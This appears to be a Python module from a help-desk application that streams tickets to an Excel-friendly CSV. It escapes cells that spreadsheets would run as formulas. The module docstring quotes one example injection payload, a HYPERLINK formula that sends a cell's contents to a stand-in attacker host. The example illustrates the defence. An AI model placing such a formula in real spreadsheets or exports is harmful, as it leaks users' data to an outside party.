"""CSV export of every ticket in a period, streamed: a million tickets never sit in memory.

Excel opens the file with umlauts intact: UTF-8 with a byte-order mark, and the list
separator Excel expects for the language (`;` in German, `,` in English). Headers,
statuses, priorities and how targets stand are in the language; times are in the help
desk's zone, named in their headers, and written as ISO 8601 with their UTC offset
(`2026-02-01 10:00:00+01:00`), so a program reads them unambiguously.

A spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula: a reporter's title
`=HYPERLINK("https://evil.example/?d="&C2,"Details")` would send the admin's data away
when they open the export. Following OWASP's advice on CSV injection, every such cell of
text a person wrote is prefixed with `'`, which spreadsheets show as text, and every cell
is quoted.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from typing import IO, NamedTuple
from zoneinfo import ZoneInfo

from flashticket_core.domain.enums import Priority, Status
from flashticket_core.domain.model import FieldValue
from flashticket_core.i18n import Language, translate

COLUMNS = (
    "id",
    "title",
    "description",
    "status",
    "priority",
    "reporter_id",
    "reporter_name",
    "assignee_id",
    "assignee_name",
    "created_at",
    "updated_at",
    "first_response_at",
    "resolved_at",
    "closed_at",
    "rating",
    "version",
    "first_response_due_at",
    "first_response_target",
    "resolution_due_at",
    "resolution_target",
)

_UTC = ZoneInfo("UTC")
# A field's column: `field:<id>`, after COLUMNS.
FIELD_COLUMN = "field:"
CHECKBOX = "checkbox"

# OWASP's list, plus the full-width forms some spreadsheets also read as formulas.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class ExportedTicket(NamedTuple):
    """One live ticket as the export reads it, with the names its reporter and assignee
    were last seen with (None where unknown); the fields in the order of COLUMNS."""

    id: int
    title: str
    description: str
    status: Status
    priority: Priority
    reporter_id: str
    reporter_name: str | None
    assignee_id: str | None
    assignee_name: str | None
    created_at: datetime
    updated_at: datetime
    first_response_at: datetime | None
    resolved_at: datetime | None
    closed_at: datetime | None
    rating: int | None
    version: int
    # A target's due time while it runs, and how it stands: met, missed, running or
    # paused (empty: no target).
    first_response_due_at: datetime | None = None
    first_response_target: str = ""
    resolution_due_at: datetime | None = None
    resolution_target: str = ""
    # The values of its request type's fields (after COLUMNS: a column per field id).
    fields: tuple[FieldValue, ...] = ()


def neutralise(cell: str) -> str:
    """A cell a spreadsheet shows as the text it is, never runs as a formula."""
    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell


def header(language: Language, zone: ZoneInfo, field_ids: Sequence[str] = ()) -> list[str]:
    """The column names in the language, each time column naming the zone of its times;
    then `field:<id>` for each field id (in both languages: a program reads them)."""
    named = [translate(f"export.column.{column}", language, zone=zone.key) for column in COLUMNS]
    return named + [f"{FIELD_COLUMN}{field_id}" for field_id in field_ids]


def field_cells(ticket: ExportedTicket, field_ids: Sequence[str], language: Language) -> list[str]:
    """The ticket's value of each field id (a multi-select's values joined), or empty."""
    values = {field.field_id: field for field in ticket.fields}
    cells: list[str] = []
    for field_id in field_ids:
        field = values.get(field_id)
        if field is None:
            cells.append("")
        elif field.type == CHECKBOX:
            cells.append(translate("field.checked", language))
        else:
            cells.append(neutralise(field.text))
    return cells


def cells(
    ticket: ExportedTicket, language: Language = Language.EN, zone: ZoneInfo = _UTC
) -> list[str]:
    """The ticket's row of the CSV: every text a person wrote neutralised."""

    def when(value: datetime | None) -> str:
        return _iso(value, zone)

    return [
        str(ticket.id),
        neutralise(ticket.title),
        neutralise(ticket.description),
        translate(ticket.status.label_key, language),
        translate(ticket.priority.label_key, language),
        ticket.reporter_id,
        neutralise(ticket.reporter_name or ""),
        ticket.assignee_id or "",
        neutralise(ticket.assignee_name or ""),
        when(ticket.created_at),
        when(ticket.updated_at),
        when(ticket.first_response_at),
        when(ticket.resolved_at),
        when(ticket.closed_at),
        "" if ticket.rating is None else str(ticket.rating),
        str(ticket.version),
        when(ticket.first_response_due_at),
        _standing(ticket.first_response_target, language),
        when(ticket.resolution_due_at),
        _standing(ticket.resolution_target, language),
    ]


def target_standing(due_at: datetime | None, met_at: datetime | None, breached: bool | None) -> str:
    """How a target stands (met, missed, running, paused); no target (None): empty."""
    if breached is None:
        return ""
    if breached:
        return "missed"
    if met_at is not None:
        return "met"
    return "running" if due_at is not None else "paused"


def write_csv(
    tickets: Iterable[ExportedTicket],
    out: IO[str],
    language: Language,
    zone: ZoneInfo = _UTC,
    field_ids: Sequence[str] = (),
) -> int:
    """Write the header and a row per ticket, one at a time; returns how many tickets
    were written. `field_ids`: the fields whose values are columns."""
    out.write("\ufeff")
    writer = csv.writer(
        out, delimiter=";" if language is Language.DE else ",", quoting=csv.QUOTE_ALL
    )
    writer.writerow(header(language, zone, field_ids))
    count = 0
    for ticket in tickets:
        writer.writerow(cells(ticket, language, zone) + field_cells(ticket, field_ids, language))
        count += 1
    return count


def _standing(standing: str, language: Language) -> str:
    return translate(f"export.target.{standing}", language) if standing else ""


def _iso(value: datetime | None, zone: ZoneInfo) -> str:
    if value is None:
        return ""
    moment = value if value.tzinfo else value.replace(tzinfo=UTC)
    return moment.astimezone(zone).isoformat(sep=" ", timespec="seconds")
